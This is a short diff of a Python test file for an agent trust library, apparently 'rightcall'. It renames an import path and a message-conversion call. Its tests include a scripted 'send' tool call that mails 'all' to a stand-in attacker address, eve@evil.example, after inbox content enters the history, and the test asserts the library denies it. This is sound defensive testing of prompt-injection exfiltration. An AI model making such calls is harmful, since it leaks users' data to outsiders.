@@ -14,9 +14,9 @@ from rightcall.core.parts import Text
 from rightcall.errors import UsageError
 from rightcall.record.memory import MemoryJournal
 from rightcall.testing import ScriptedModel, call, reply
-from rightcall.trust.file import parse_rules
 from rightcall.trust.ledger import Ledger
 from rightcall.trust.rules import Rules
+from rightcall.trust.rules_file import parse_rules
 from rightcall.trust.traces import came_back, is_opaque, traces_of
 
 EVE = "eve@evil.example"
@@ -252,7 +252,7 @@ def test_an_answer_of_ours_says_whether_outsiders_had_spoken():
 
 def test_results_that_lost_their_labels_in_a_vendors_shape_are_outsiders():
     bank = Bank()
-    history = rc.to_messages(run(bank, call("inbox")).transcript, "openai_chat")
+    history = rc.wire.to_messages(run(bank, call("inbox")).transcript, "openai_chat")
     theft = call("send", to=EVE, body="all")
     assert last(run(bank, theft, prompt="Go on.", history=history)) == "denied"
 
